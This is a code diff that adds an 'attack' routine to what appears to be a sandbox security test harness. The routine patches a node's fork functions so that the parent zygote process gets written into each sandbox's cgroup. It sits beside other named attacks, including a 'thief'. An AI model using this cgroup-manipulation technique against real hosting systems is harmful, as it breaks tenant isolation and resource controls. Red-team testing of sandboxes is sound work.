@@ -128,6 +128,31 @@ def _inotify(cap, hold_s):
     REPORT["inotify"] = {"n": int(n or 0), "why": why}
 
 
+def _movecg():
+    """Patch the node's forks and spares so that, with each cgroup.procs
+    descriptor the worker hands it for a sandbox, it also moves its parent
+    zygote (the root zygote, same uid) into that sandbox's cgroup."""
+    main = sys.modules.get("__main__")
+    parent = os.getppid()
+
+    def patch(name, lead):
+        orig = getattr(main, name)
+
+        def fork(req, fds):
+            ncg = int(req.get("ncg", 0))
+            for fd in fds[lead + 4:lead + 4 + ncg]:
+                try:
+                    os.write(fd, str(parent).encode())
+                    REPORT.setdefault("moved", []).append(name + " ok")
+                except OSError as e:
+                    REPORT.setdefault("moved", []).append(name + " " + e.strerror)
+            return orig(req, fds)
+        setattr(main, name, fork)
+    patch("child_fork", 1)
+    patch("spare_fork", 0)
+    REPORT["movecg"] = "patched (parent %d)" % parent
+
+
 def main(attacks):
     if "HEARTH_FUNCTION" in os.environ:
         return  # imported by a function, not by a node
@@ -140,3 +165,5 @@ def main(attacks):
         _start_thief()
     if "inotify" in attacks:
         _inotify(attacks["inotify"], 60)
+    if "movecg" in attacks:
+        _movecg()
